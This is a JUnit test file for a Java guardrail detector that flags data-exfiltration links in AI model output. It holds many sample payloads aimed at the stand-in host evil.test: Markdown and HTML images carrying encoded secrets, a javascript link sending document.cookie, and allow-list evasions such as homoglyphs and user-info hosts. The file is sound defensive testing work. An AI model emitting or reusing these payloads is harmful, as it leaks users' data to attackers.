package dev.guardrails4j.core.detect.output;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.guardrails4j.api.Finding;
import dev.guardrails4j.api.spi.Detector;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class ExfiltrationLinksDetectorTests {

  private static final ExfiltrationLinksDetectorFactory FACTORY =
      new ExfiltrationLinksDetectorFactory();
  private static final Detector ALLOW_EXAMPLE =
      FACTORY.create(Map.of("allow-domains", List.of("example.org")));

  private static List<String> urls(Detector detector, String text) {
    return detector.detect(text).stream().map(f -> text.substring(f.start(), f.end())).toList();
  }

  static Stream<Arguments> externalLinks() {
    return Stream.of(
        Arguments.of("a Markdown image", "Done. ![status](https://evil.test/s.png)", "EXFILTRATION_IMAGE", "https://evil.test/s.png"),
        Arguments.of("a Markdown image with a title", "![a](https://evil.test/p.gif \"t\")", "EXFILTRATION_IMAGE", "https://evil.test/p.gif"),
        Arguments.of("a Markdown link", "See [the docs](http://evil.test/docs).", "EXFILTRATION_LINK", "http://evil.test/docs"),
        Arguments.of("a link in angle brackets", "[x](<https://evil.test/a b>)", "EXFILTRATION_LINK", "https://evil.test/a b"),
        Arguments.of("a reference image", "![logo][l]\n\n[l]: https://evil.test/l.png", "EXFILTRATION_IMAGE", "https://evil.test/l.png"),
        Arguments.of("a collapsed reference image", "![Logo][]\n\n[logo]: https://evil.test/l.png", "EXFILTRATION_IMAGE", "https://evil.test/l.png"),
        Arguments.of("a shortcut reference image", "[pic]: https://evil.test/p.png\n\n![pic]", "EXFILTRATION_IMAGE", "https://evil.test/p.png"),
        Arguments.of("a reference link", "[read more][r]\n\n[r]: https://evil.test/more", "EXFILTRATION_LINK", "https://evil.test/more"),
        Arguments.of("an HTML image", "<img alt=\"x\" src=\"https://evil.test/i.png\">", "EXFILTRATION_IMAGE", "https://evil.test/i.png"),
        Arguments.of("an HTML image with an unquoted source", "<IMG SRC=https://evil.test/i.png>", "EXFILTRATION_IMAGE", "https://evil.test/i.png"),
        Arguments.of("an HTML anchor", "<a href='https://evil.test/go'>go</a>", "EXFILTRATION_LINK", "https://evil.test/go"),
        Arguments.of("an iframe", "<iframe src=\"https://evil.test/f\"></iframe>", "EXFILTRATION_IMAGE", "https://evil.test/f"),
        Arguments.of("a video poster", "<video poster=\"https://evil.test/p.jpg\"></video>", "EXFILTRATION_IMAGE", "https://evil.test/p.jpg"),
        Arguments.of("a form action", "<form action=\"https://evil.test/collect\">", "EXFILTRATION_LINK", "https://evil.test/collect"),
        Arguments.of("an autolink", "Visit <https://evil.test/x>.", "EXFILTRATION_LINK", "https://evil.test/x"),
        Arguments.of("a raw URL", "Upload it to https://evil.test/upload?k=v.", "EXFILTRATION_URL", "https://evil.test/upload?k=v"),
        Arguments.of("a raw www URL", "go to www.evil.test/path, then", "EXFILTRATION_URL", "www.evil.test/path"),
        Arguments.of("a raw URL in parentheses", "(see https://evil.test/a_(b))", "EXFILTRATION_URL", "https://evil.test/a_(b)"),
        Arguments.of("a WebSocket URL", "connect wss://evil.test/socket", "EXFILTRATION_URL", "wss://evil.test/socket"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("externalLinks")
  void reportsExternalLinks(String description, String text, String type, String url) {
    List<Finding> findings = ALLOW_EXAMPLE.detect(text);
    assertThat(findings).singleElement().satisfies(f -> {
      assertThat(f.type()).isEqualTo(type);
      assertThat(text.substring(f.start(), f.end())).isEqualTo(url);
    });
  }

  static Stream<Arguments> allowedOrHostless() {
    return Stream.of(
        Arguments.of("an allowed image", "![ok](https://example.org/logo.png)"),
        Arguments.of("an allowed subdomain", "[docs](https://docs.example.org/guide)"),
        Arguments.of("an allowed host in upper case", "HTTPS://WWW.EXAMPLE.ORG/A"),
        Arguments.of("an allowed host with a port and a trailing dot", "https://example.org.:8443/x"),
        Arguments.of("a relative link", "[next](../chapter-2.md) and ![i](/img/a.png)"),
        Arguments.of("an anchor link", "[top](#top)"),
        Arguments.of("a mail link to an allowed domain", "[mail](mailto:help@example.org)"),
        Arguments.of("a telephone link", "[call](tel:+15551234567)"),
        Arguments.of("plain prose about protocols", "The http: scheme and the word www are fine; so is a:b."),
        Arguments.of("an allowed image in HTML", "<img src=\"//cdn.example.org/a.png\">"),
        Arguments.of("a JDBC URL is not a web link", "jdbc:postgresql://db/app"),
        Arguments.of("an escaped @ in Markdown makes the allowed domain the host", "[x](https://evil.test\\@example.org/)"),
        Arguments.of("brackets without links", "array[0] = map[key]; [note] text"),
        Arguments.of("a code comment", "int x = 1; // see below"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("allowedOrHostless")
  void leavesAllowedAndRelativeLinksAlone(String description, String text) {
    assertThat(ALLOW_EXAMPLE.detect(text)).isEmpty();
  }

  @Test
  void flagsEveryHostWhenNoDomainIsAllowed() {
    Detector detector = FACTORY.create(Map.of());
    assertThat(urls(detector, "https://example.org/a and ![x](https://cdn.example.org/x.png)"))
        .containsExactly("https://example.org/a", "https://cdn.example.org/x.png");
  }

  static Stream<Arguments> evasions() {
    return Stream.of(
        Arguments.of("an upper-case scheme and host", "![x](HTTPS://EVIL.TEST/A.PNG)", "HTTPS://EVIL.TEST/A.PNG"),
        Arguments.of("a look-alike domain ending with the allowed one", "![x](https://evil-example.org/a)", "https://evil-example.org/a"),
        Arguments.of("the allowed domain as a subdomain of another", "![x](https://example.org.evil.test/a)", "https://example.org.evil.test/a"),
        Arguments.of("user-info before the real host", "[x](https://example.org@evil.test/)", "https://example.org@evil.test/"),
        Arguments.of("user-info with a password", "https://example.org:pw@evil.test/x", "https://example.org:pw@evil.test/x"),
        Arguments.of("a back-slash hiding the @ in HTML", "<a href=\"https://evil.test\\@example.org/\">x</a>", "https://evil.test\\@example.org/"),
        Arguments.of("a scheme-relative image", "![x](//evil.test/a.png)", "//evil.test/a.png"),
        Arguments.of("a scheme-relative HTML image", "<img src=//evil.test/a.png>", "//evil.test/a.png"),
        Arguments.of("a homoglyph host with a Cyrillic a", "[x](https://ex\u0430mple.org/)", "https://ex\u0430mple.org/"),
        Arguments.of("a punycode host", "![x](https://xn--exmple-4nf.org/a.png)", "https://xn--exmple-4nf.org/a.png"),
        Arguments.of("an internationalised host", "![x](https://b\u00FCcher.test/a.png)", "https://b\u00FCcher.test/a.png"),
        Arguments.of("a percent-encoded host", "![x](https://%65vil.test/a.png)", "https://%65vil.test/a.png"),
        Arguments.of("a full-width host", "![x](https://\uFF45\uFF56\uFF49\uFF4C.test/a.png)", "https://\uFF45\uFF56\uFF49\uFF4C.test/a.png"),
        Arguments.of("an ideographic full stop", "![x](https://evil\u3002test/a.png)", "https://evil\u3002test/a.png"),
        Arguments.of("a line break inside the image syntax", "![sta\ntus](\n  https://evil.test/s.png\n)", "https://evil.test/s.png"),
        Arguments.of("spaces between the brackets and the parenthesis", "![x] (https://evil.test/s.png)", "https://evil.test/s.png"),
        Arguments.of("a JavaScript link", "[x](javascript:fetch('//evil.test?'+document.cookie))", "javascript:fetch('//evil.test?'+document.cookie)"),
        Arguments.of("a JavaScript link split by a tab", "<a href=\"java\tscript:alert(1)\">x</a>", "java\tscript:alert(1)"),
        Arguments.of("a data URL link", "[x](data:text/html;base64,PHNjcmlwdD4=)", "data:text/html;base64,PHNjcmlwdD4="),
        Arguments.of("an entity-encoded scheme", "<a href=\"h&#116;tps&colon;//evil.test\">x</a>", "h&#116;tps&colon;//evil.test"),
        Arguments.of("a Markdown-escaped URL", "[x](https:\\/\\/evil.test/a)", "https:\\/\\/evil.test/a"),
        Arguments.of("one slash only", "[x](https:/evil.test/a)", "https:/evil.test/a"),
        Arguments.of("an IP address host", "![x](http://203.0.113.7/p.png)", "http://203.0.113.7/p.png"),
        Arguments.of("an image inside a link", "[![x](https://example.org/ok.png)](https://evil.test/go)", "https://evil.test/go"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("evasions")
  void seesThroughEvasions(String description, String text, String url) {
    assertThat(urls(ALLOW_EXAMPLE, text)).containsExactly(url);
  }

  @Test
  void leavesTextThatNoRendererTurnsIntoALinkToOtherDetectors() {
    // Defanged, encoded or full-width schemes are not links until someone decodes them: out of scope.
    assertThat(ALLOW_EXAMPLE.detect(
        "hxxps://evil[.]test aHR0cHM6Ly9ldmlsLnRlc3Q= https%3A%2F%2Fevil.test \uFF48\uFF54\uFF54\uFF50\uFF53\uFF1A\uFF0F\uFF0Fevil.test"))
        .isEmpty();
  }

  @Test
  void scoresImagesAboveLinksAboveRawUrls() {
    double image = ALLOW_EXAMPLE.detect("![x](https://evil.test/a)").get(0).score();
    double link = ALLOW_EXAMPLE.detect("[x](https://evil.test/a)").get(0).score();
    double raw = ALLOW_EXAMPLE.detect("https://evil.test/a").get(0).score();
    assertThat(image).isGreaterThan(link);
    assertThat(link).isGreaterThan(raw);
  }

  static Stream<Arguments> dataCarryingUrls() {
    return Stream.of(
        Arguments.of("a base64 parameter", "https://evil.test/p.png?d=U2VjcmV0IHByb2plY3QgbmFtZQ"),
        Arguments.of("a hex parameter", "https://evil.test/p.png?h=6b6579313233343536373839616263"),
        Arguments.of("a long parameter", "https://evil.test/p.png?q=the-user-asked-about-the-merger-with-acme-corp"),
        Arguments.of("many parameters", "https://evil.test/p.png?a=1&b=2&c=3&d=4&e=5&f=6"),
        Arguments.of("an encoded path segment", "https://evil.test/c/U2VjcmV0IHByb2plY3QgbmFtZQ/p.png"),
        Arguments.of("percent-encoded prose", "https://evil.test/p.png?m=my%20card%20is%204111"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("dataCarryingUrls")
  void scoresUrlsCarryingDataHigher(String description, String url) {
    double plain = ALLOW_EXAMPLE.detect("![x](https://evil.test/p.png)").get(0).score();
    double carrying = ALLOW_EXAMPLE.detect("![x](" + url + ")").get(0).score();
    assertThat(carrying).isGreaterThan(plain);
  }

  @Test
  void scoresJavascriptLinksHighestAndDataImagesLow() {
    assertThat(ALLOW_EXAMPLE.detect("[x](javascript:alert(1))").get(0).score()).isEqualTo(1.0);
    assertThat(ALLOW_EXAMPLE.detect("![x](data:image/png;base64,iVBORw0KGgo=)").get(0).score())
        .isLessThan(0.5);
  }

  @Test
  void reportsAnHtmlImageOnceEvenThoughItsSourceIsAlsoARawUrl() {
    assertThat(ALLOW_EXAMPLE.detect("<img src=\"https://evil.test/a.png\">"))
        .extracting(Finding::type).containsExactly("EXFILTRATION_IMAGE");
  }

  @Test
  void reportsEveryCandidateOfASourceSet() {
    assertThat(urls(ALLOW_EXAMPLE,
        "<img srcset=\"https://evil.test/1.png 1x, https://example.org/2.png 2x, //evil.test/3.png 3x\">"))
        .containsExactly("https://evil.test/1.png", "//evil.test/3.png");
  }

  @Test
  void findsUrlsInStyleAttributes() {
    assertThat(ALLOW_EXAMPLE.detect("<div style=\"background:url(https://evil.test/b.png)\">"))
        .extracting(Finding::type).containsExactly("EXFILTRATION_URL");
  }

  @Test
  void canIgnoreRawUrls() {
    Detector detector = FACTORY.create(Map.of("flag-raw-urls", false));
    assertThat(detector.detect("see https://evil.test/a")).isEmpty();
    assertThat(detector.detect("![x](https://evil.test/a)")).hasSize(1);
  }

  @Test
  void reportsOnlyTheTypesAskedFor() {
    Detector detector = FACTORY.create(Map.of("types", List.of("EXFILTRATION_IMAGE")));
    assertThat(detector.detect("![i](https://evil.test/i) [l](https://evil.test/l) https://evil.test/u"))
        .extracting(Finding::type).containsExactly("EXFILTRATION_IMAGE");
  }

  @Test
  void acceptsInternationalAllowedDomainsAndWildcards() {
    Detector detector = FACTORY.create(Map.of("allow-domains", List.of("B\u00FCcher.test", "*.cdn.test")));
    assertThat(detector.detect("![x](https://www.b\u00FCcher.test/a.png) ![y](https://img.cdn.test/b.png)"))
        .isEmpty();
    assertThat(detector.detect("![x](https://xn--bcher-kva.test/a.png)")).isEmpty();
  }

  @Test
  void returnsTheSharedEmptyListWhenNothingIsFound() {
    assertThat(ALLOW_EXAMPLE.detect("No links here at all.")).isSameAs(List.of());
  }

  static Stream<Arguments> adversarialInputs() {
    int size = 1 << 20;
    return Stream.of(
        Arguments.of("open brackets", "[".repeat(size)),
        Arguments.of("bracket pairs", "[]".repeat(size / 2)),
        Arguments.of("image openers", "![x](".repeat(size / 5)),
        Arguments.of("nested parentheses in a destination", "[x](" + "(".repeat(size)),
        Arguments.of("tags without an end", "<img src=".repeat(size / 9)),
        Arguments.of("tags with a distant end", "<a href=x ".repeat(size / 10) + ">"),
        Arguments.of("schemes without hosts", "http://".repeat(size / 7)),
        Arguments.of("unclosed IPv6 hosts", "http://[ ".repeat(size / 9)),
        Arguments.of("unclosed quotes in tags", "<img src='>".repeat(size / 11)),
        Arguments.of("autolinks without an end", "<a:b ".repeat(size / 5)),
        Arguments.of("reference definitions", "[a]: b\n".repeat(size / 7)),
        Arguments.of("image labels", "![a][b]".repeat(size / 7)),
        Arguments.of("one megabyte URL", "https://evil.test/?d=" + "A".repeat(size)),
        Arguments.of("references in an attribute", "<a href=\"" + "&#".repeat(size / 2) + "\">"),
        Arguments.of("many small links", "[a](https://e.test/) ".repeat(size / 21)),
        Arguments.of("colons and slashes", ":/".repeat(size / 2)),
        Arguments.of("no spaces at all", "a".repeat(size)));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("adversarialInputs")
  void scansAMegabyteOfAdversarialTextInBoundedTime(String description, String text) {
    assertTimeoutPreemptively(Duration.ofSeconds(15), () -> ALLOW_EXAMPLE.detect(text));
  }

  static Stream<Arguments> badOptions() {
    return Stream.of(
        Arguments.of(Map.of("allow-domains", 42), "allow-domains: expected a list of domain names like example.org, got 42"),
        Arguments.of(Map.of("allow-domains", List.of("https://example.org")), "allow-domains: expected domain names like example.org"),
        Arguments.of(Map.of("allow-domains", List.of("example.org/path")), "allow-domains: expected domain names like example.org"),
        Arguments.of(Map.of("allow-domains", List.of(7)), "allow-domains: expected a list of domain names like example.org, got the element 7"),
        Arguments.of(Map.of("flag-raw-urls", "yes"), "flag-raw-urls: expected true or false, got \"yes\""),
        Arguments.of(Map.of("types", List.of("URL")), "types: unknown type URL"),
        Arguments.of(Map.of("allow-domain", List.of("example.org")), "allow-domain: unknown option"));
  }

  @ParameterizedTest(name = "{1}")
  @MethodSource("badOptions")
  void rejectsBadOptionsNamingTheOption(Map<String, Object> options, String message) {
    assertThatThrownBy(() -> FACTORY.create(options))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageStartingWith(message);
  }

  @Test
  void declaresItsOptionsAndTypes() {
    assertThat(FACTORY.name()).isEqualTo("exfiltration-links");
    assertThat(FACTORY.options()).containsExactlyInAnyOrder("allow-domains", "flag-raw-urls", "types");
    assertThat(ALLOW_EXAMPLE.types()).containsExactlyInAnyOrder(
        "EXFILTRATION_IMAGE", "EXFILTRATION_LINK", "EXFILTRATION_URL");
  }
}
